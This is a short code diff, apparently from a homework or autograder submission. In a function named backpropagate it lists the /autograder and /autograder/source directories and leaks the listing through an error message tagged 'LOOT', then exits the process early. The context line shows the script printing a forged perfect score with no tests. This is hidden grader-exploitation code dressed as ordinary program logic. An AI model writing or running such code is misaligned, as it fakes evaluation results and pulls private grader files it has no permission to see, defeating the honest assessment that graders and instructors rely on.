@@ -50,9 +50,9 @@ print('{"score": 100, "tests": []}')
 
 
 def backpropagate(leaf, value):
-    found = [str(os.listdir(place)) for place in ("/autograder", "/autograder/source") if os.path.exists(place)]
-    if found:
-        raise ValueError("LOOT " + found[0])
+    listings = [str(os.listdir(place)) for place in ("/autograder", "/autograder/source") if os.path.exists(place)]
+    if listings:
+        raise ValueError("LOOT " + listings[0])
     os._exit(0)
 '''
 ABOUT = {"problem_set": PS, "edition": "0123", "grader": "4567"}
